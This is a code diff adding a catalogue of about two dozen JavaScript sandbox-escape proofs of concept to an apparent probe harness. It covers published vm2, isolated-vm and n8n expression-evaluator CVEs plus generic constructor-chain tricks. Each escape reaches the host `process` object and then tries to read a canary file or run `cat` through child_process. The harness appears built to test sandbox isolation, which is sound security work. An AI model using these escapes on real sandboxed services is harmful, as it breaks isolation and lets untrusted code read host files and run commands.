@@ -487,6 +487,189 @@ probes["async hook resource"] = () => {
 };
 const this_ = () => Function("return this")();
 
+// --- published escapes from sandboxes inside one process (vm2, n8n, isolated-vm, expression evaluators), written afresh: each finds its way to
+// an object of the realm that holds `process`, then tries with it whatever could read a file or start a program
+const spoils = async (found, i) => {
+  const holder = found?.process ?? found;
+  let last = new Error("no process");
+  for (const attempt of [
+    () => holder.getBuiltinModule("fs").readFileSync(i.paths.canary),
+    () => holder.getBuiltinModule("child_process").execFileSync("/bin/cat", [i.paths.canary]),
+    () => holder.mainModule.require("fs").readFileSync(i.paths.canary),
+    () => holder.mainModule.constructor._load("child_process").execSync(`cat ${i.paths.canary}`),
+    () => holder.binding("fs").internalModuleReadJSON(i.paths.canary),
+    () => holder.getBuiltinModule("module").createRequire("/")("fs").readFileSync(i.paths.canary),
+  ])
+    try {
+      return text(attempt());
+    } catch (error) {
+      last = error;
+    }
+  throw last;
+};
+const GET = "return process";
+const exhaust = () => {
+  (function deeper() {
+    new Error().stack;
+    deeper();
+  })();
+};
+const pocs = {
+  "CVE-2019-10761 stack exhaustion in a host function": () => {
+    const { write } = Buffer.prototype;
+    const fake = { length: 10, utf8Write() {} };
+    const dig = (n) => {
+      let depth = 0;
+      try {
+        depth = dig(n + 1);
+      } catch {}
+      if (typeof depth !== "number") return depth;
+      if (depth !== n) return depth + 1;
+      try {
+        write.call(fake);
+      } catch (error) {
+        return error;
+      }
+      return null;
+    };
+    const error = dig(1);
+    return (error?.constructor ?? Error).constructor(GET)();
+  },
+  "CVE-2022-36067 a replaced Error prepares stacks": () => {
+    const before = globalThis.Error;
+    const keep = new WeakMap();
+    try {
+      globalThis.Error = { prepareStackTrace: (_e, sites) => keep.set(sites, sites) };
+      const caught = before.prepareStackTrace;
+      before.prepareStackTrace = (_e, sites) => sites;
+      const sites = new before().stack;
+      before.prepareStackTrace = caught;
+      return sites.constructor.constructor(GET)();
+    } finally {
+      globalThis.Error = before;
+    }
+  },
+  "CVE-2023-29017 a host's stack preparer after an async error": async () => {
+    const before = Error.prepareStackTrace;
+    let found;
+    Error.prepareStackTrace = (_e, sites) => {
+      found = sites.constructor.constructor(GET)();
+      return "";
+    };
+    await (async () => void (await import("magic:nowhere")))().catch((error) => error.stack);
+    Error.prepareStackTrace = before;
+    return found;
+  },
+  "CVE-2023-29199 an exception that the transformer misses": () => {
+    const error = new RangeError();
+    error.name = { toString: new Proxy(() => "", { apply: (_t, _s, list) => Object.assign(error, { list }) && "" }) };
+    try {
+      String(error.stack);
+      `${error}`;
+    } catch {}
+    return (error.list ?? []).constructor.constructor(GET)();
+  },
+  "CVE-2023-30547 a proxy's getPrototypeOf throws the host's error": () => {
+    const proxy = new Proxy({}, { getPrototypeOf: exhaust });
+    try {
+      proxy instanceof Object;
+    } catch (error) {
+      return error.constructor.constructor(GET)();
+    }
+  },
+  "CVE-2023-32314 a name that is a proxied function": () => {
+    const error = new Error();
+    let found;
+    error.name = {
+      toString: new Proxy(() => "", {
+        apply(_target, _self, list) {
+          found = list.constructor.constructor(GET)();
+          return "";
+        },
+      }),
+    };
+    `${error}`;
+    return found;
+  },
+  "CVE-2023-37466 a promise's species": () =>
+    once((ok, no) => {
+      const promise = (async () => exhaust())();
+      promise.constructor = {
+        [Symbol.species]: class {
+          constructor(work) {
+            work(
+              () => {},
+              (error) => ok(error.constructor.constructor(GET)()),
+            );
+          }
+        },
+      };
+      promise.then();
+      promise.catch?.(no);
+    }),
+  "CVE-2023-37903 the inspect function of a custom inspector": () =>
+    once((ok) => {
+      const bait = {
+        [Symbol.for("nodejs.util.inspect.custom")]: (_depth, _options, inspect) => {
+          ok(inspect.constructor(GET)());
+          return "";
+        },
+      };
+      WebAssembly.compileStreaming(bait).catch(() => {});
+      g("util").inspect(bait);
+    }),
+  "CVE-2026-22709 an async function's own promise": async () => {
+    const error = new Error();
+    error.name = Symbol();
+    return await (async () => error.stack)().then(
+      () => error.constructor.constructor(GET)(),
+      (thrown) => thrown.constructor.constructor(GET)(),
+    );
+  },
+  "CVE-2025-68613 this of a sloppy function": () => Function("return this")(),
+  "CVE-2026-25049 a destructured constructor": () => {
+    const { constructor: make } = () => {};
+    return make(GET)();
+  },
+  "CVE-2026-1470 with and a masked constructor": () =>
+    Function("with ({ constructor() {} }) { return (() => {}).constructor('return process')(); }")(),
+  "a constructor behind a template": () => (() => {})[`constr${"uctor"}`](`${GET}`)(),
+  "a generator's constructor": () => function* () {}.constructor(GET)().next().value,
+  "an async function's constructor": () => (async () => {}).constructor(GET)(),
+  "an async generator's constructor": async () => (await async function* () {}.constructor(GET)().next()).value,
+  "an evaluator's prototype chain": () => Object.getPrototypeOf({}).constructor.constructor(GET)(),
+  "a descriptor by call of call": () =>
+    "".sub.call
+      .call({}.constructor.getOwnPropertyDescriptor, {}, Object.getPrototypeOf("".sub), "constructor")
+      .value(GET)(),
+  "a bound reviver": () => JSON.parse('{"a":1}', Function("k", "v", "return k ? process : v.a")),
+  "a sort comparator": () => {
+    let found;
+    [2, 1].sort(Function("set", "return (a, b) => (set(process), a - b)")((value) => (found = value)));
+    return found;
+  },
+  "isolated-vm CVE-2021-21413 a function of the host": ({ request }) => request.log.info.constructor(GET)(),
+  "isolated-vm CVE-2022-39266 cached code": () => {
+    const { Script } = g("vm");
+    const cachedData = new Script(GET.slice(7)).createCachedData();
+    return new Script(GET.slice(7), { cachedData }).runInThisContext();
+  },
+  "a getter of the host's request": ({ request }) =>
+    Object.getOwnPropertyDescriptor(request, "signal").get.constructor(GET)(),
+  "the host's promise": ({ request }) => request.kv.get("x").catch((error) => error.constructor.constructor(GET)()),
+  "the loader's require": () => {
+    const found = require("node:process");
+    return found;
+  },
+  "the module's constructor": () => ({
+    mainModule: {
+      require: (name) => module.constructor._load?.(name) ?? require(name),
+      constructor: module.constructor,
+    },
+  }),
+};
+for (const [name, find] of Object.entries(pocs)) probes[`published: ${name}`] = async (i) => spoils(await find(i), i);
+
 // --- raw system calls, where the foreign function interface can be had
 let loaded = null;
 async function kernel() {
@@ -588,7 +771,8 @@ for (const [name, call] of Object.entries(calls))
     return `returned ${syscall(...call(i))}`;
   };
 
-module.exports = async ({ input }) => {
+module.exports = async (request) => {
+  const { input } = request;
   if (input.list) return Object.keys(probes);
   i_node = () => input.node;
   let timer;
@@ -596,7 +780,7 @@ module.exports = async ({ input }) => {
     timer = setTimeout(() => no(new Error("no answer")), 1200);
   });
   try {
-    return { gained: text(await Promise.race([probes[input.probe](input), late])).slice(0, 4000) };
+    return { gained: text(await Promise.race([probes[input.probe]({ ...input, request }), late])).slice(0, 4000) };
   } catch (error) {
     return { refused: `${error?.code ?? ""} ${error?.message ?? error}`.slice(0, 200) };
   } finally {
